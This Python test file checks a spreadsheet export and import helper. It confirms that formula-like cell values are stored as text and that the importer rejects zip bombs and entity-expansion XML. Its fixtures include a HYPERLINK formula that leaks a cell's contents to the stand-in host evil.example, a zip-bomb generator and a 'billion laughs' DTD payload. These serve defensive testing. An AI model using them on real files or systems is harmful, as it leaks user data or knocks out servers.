"""The one spreadsheet writer and reader check (config.spreadsheets): text stays text, control
characters never break an export, and an archive that expands too far is refused unparsed."""

from __future__ import annotations

import io
import time
import tracemalloc
import zipfile
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from config import spreadsheets
from config.spreadsheets import UnsafeSpreadsheet, XlsxLimits, check_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B3,"Подробнее")'
TRIGGERS = [HYPERLINK, "+7 918 555", "-2+3", "@SUM(A1)", "\tтаб", "\rвозврат", "=1+1"]


def first_sheet(content: bytes):
    return load_workbook(io.BytesIO(content)).worksheets[0]


@pytest.mark.parametrize("value", TRIGGERS)
def test_text_that_looks_like_a_formula_is_written_as_text(value):
    sheet = first_sheet(spreadsheets.table_bytes("Список", ["Фамилия"], [[value]]))
    cell = sheet["A2"]
    assert cell.data_type == "s"  # a string cell, never "f"
    assert cell.quotePrefix  # Excel's own "this is text" mark, kept when edited
    assert cell.value == value  # the value as typed: an export imports back unchanged


def test_plain_text_numbers_and_dates_keep_their_types():
    rows = [["Ёлкина", 5, 2.5, date(2012, 3, 4), datetime(2026, 9, 1, 6, 0, tzinfo=UTC)]]
    sheet = first_sheet(spreadsheets.table_bytes("Список", ["a", "b", "c", "d", "e"], rows))
    name, count, share, birth, moment = (c for c in sheet[2])
    assert (name.value, name.data_type, name.quotePrefix) == ("Ёлкина", "s", False)
    assert (count.value, count.data_type) == (5, "n")
    assert share.value == 2.5
    assert birth.value.date() == date(2012, 3, 4) and birth.number_format == "DD.MM.YYYY"
    assert moment.value == datetime(2026, 9, 1, 9, 0)  # Moscow time, as users read it


def test_control_characters_are_dropped_instead_of_failing_the_export():
    content = spreadsheets.table_bytes("Список\x05", ["ФИО"], [["Иван\x05ов\x1a Пётр"]])
    assert first_sheet(content)["A2"].value == "Иванов Пётр"


def test_cells_put_into_a_normal_sheet_are_safe_too():
    workbook = spreadsheets.new_workbook()
    sheet = workbook.active
    spreadsheets.put(sheet, row=1, column=1, value=HYPERLINK)
    sheet["B1"] = "=2+2"  # written around the helper: saving still makes it text
    out = first_sheet(spreadsheets.workbook_bytes(workbook))
    assert out["A1"].data_type == "s" and out["A1"].quotePrefix
    assert out["B1"].data_type == "s" and out["B1"].value == "=2+2"


def test_csv_values_get_an_apostrophe_before_a_formula():
    assert spreadsheets.csv_value("=1+1") == "'=1+1"
    assert spreadsheets.csv_value("-5") == "'-5"
    assert spreadsheets.csv_value("Иванов\x05") == "Иванов"
    assert spreadsheets.csv_value(date(2012, 3, 4)) == "04.03.2012"
    assert spreadsheets.csv_value(None) == ""


def test_sheet_titles_are_made_valid():
    assert spreadsheets.sheet_title("a/b[c]:d*?") == "a b c  d"
    assert len(spreadsheets.sheet_title("х" * 40)) == 31
    assert spreadsheets.sheet_title("\x05") == "Sheet"


def test_every_writer_goes_through_the_helper():
    """No module but config.spreadsheets makes or saves workbooks (the reader opens them only
    after check_xlsx)."""
    import re
    from pathlib import Path

    making = re.compile(r"\bWorkbook\(|WriteOnlyCell|\bload_workbook\(")
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for folder in ("schools", "regional", "accounts", "tenants", "platform/config"):
        for path in (root / folder).rglob("*.py"):
            if path.name == "spreadsheets.py" or "migrations" in path.parts:
                continue
            text = path.read_text(encoding="utf-8")
            for match in making.finditer(text):
                if match.group() == "load_workbook(" and "check_xlsx(" in text:
                    continue  # the importer opens a workbook only after the check
                offenders.append(f"{path.relative_to(root)}: {match.group()}")
            if "csv.writer" in text and "csv_value" not in text:
                offenders.append(f"{path.relative_to(root)}: csv.writer without csv_value")
    assert not offenders, offenders


# --- the reader's check ------------------------------------------------------------------------


def normal_xlsx() -> bytes:
    """A workbook with a shared-strings part, as Excel saves one (openpyxl writes inline
    strings, so the part, its content type and its relationship are added)."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["ФИО", "Класс"])
    for i in range(200):
        sheet.append([f"Иванов Иван {i}", "5А"])
    source = io.BytesIO()
    workbook.save(source)
    parts = {
        entry.filename: zipfile.ZipFile(source).read(entry)
        for entry in zipfile.ZipFile(source).infolist()
    }
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdStrings" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
        b"</Relationships>",
    )
    parts["xl/sharedStrings.xml"] = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2">'
        "<si><t>ФИО</t></si><si><t>Класс</t></si></sst>"
    ).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def bomb_xlsx(shared_strings_mb: int = 106) -> bytes:
    """A small archive whose shared-strings part expands to ``shared_strings_mb`` MB: the
    parts of a real workbook, with the strings part swapped for a huge repetitive one."""
    source = zipfile.ZipFile(io.BytesIO(normal_xlsx()))
    out = io.BytesIO()
    chunk = b"<si><t>AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA</t></si>" * 16384
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for entry in source.infolist():
            if entry.filename != "xl/sharedStrings.xml":
                archive.writestr(entry, source.read(entry))
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
            written = 0
            while written < shared_strings_mb * 1024 * 1024:
                part.write(chunk)
                written += len(chunk)
            part.write(b"</sst>")
    return out.getvalue()


def test_a_normal_workbook_passes_the_check():
    check_xlsx(io.BytesIO(normal_xlsx()))


def test_an_expanding_archive_is_refused_from_its_directory(monkeypatch):
    bomb = bomb_xlsx()
    assert len(bomb) < 600 * 1024  # a few hundred KB on the wire

    def parsed(*args, **kwargs):
        raise AssertionError("the archive was parsed")

    import defusedxml.ElementTree

    monkeypatch.setattr(defusedxml.ElementTree, "iterparse", parsed)
    with pytest.raises(UnsafeSpreadsheet) as refused:
        check_xlsx(io.BytesIO(bomb))
    assert refused.value.code in {"ratio", "shared_strings", "too_large"}
    assert "safely" in refused.value.message


def test_the_refusal_is_immediate_and_flat_in_memory(capsys):
    """Figures only (no timing assertion): printed with -s."""
    bomb = bomb_xlsx()
    tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(UnsafeSpreadsheet):
        check_xlsx(io.BytesIO(bomb))
    elapsed = time.perf_counter() - started
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    with capsys.disabled():
        print(f"\nbomb {len(bomb) // 1024} KB refused in {elapsed * 1000:.1f} ms, peak {peak} B")


@pytest.mark.parametrize(
    ("limits", "code"),
    [
        (XlsxLimits(max_entries=3), "too_many_parts"),
        (XlsxLimits(max_uncompressed=1000, small_part=100), "too_large"),
        (XlsxLimits(max_shared_strings=10), "shared_strings"),
    ],
)
def test_each_limit_refuses(limits, code):
    with pytest.raises(UnsafeSpreadsheet) as refused:
        check_xlsx(io.BytesIO(normal_xlsx()), limits=limits)
    assert refused.value.code == code


def test_a_document_type_declaration_is_refused():
    source = zipfile.ZipFile(io.BytesIO(normal_xlsx()))
    out = io.BytesIO()
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<si><t>&lol2;</t></si></sst>"
    )
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry in source.infolist():
            data = laughs if entry.filename == "xl/sharedStrings.xml" else source.read(entry)
            archive.writestr(entry, data)
    with pytest.raises(UnsafeSpreadsheet) as refused:
        check_xlsx(io.BytesIO(out.getvalue()))
    assert refused.value.code == "dtd"


def test_not_a_zip_is_a_damaged_workbook():
    with pytest.raises(UnsafeSpreadsheet) as refused:
        check_xlsx(io.BytesIO(b"PK\x03\x04broken"))
    assert refused.value.code == "bad_xlsx"
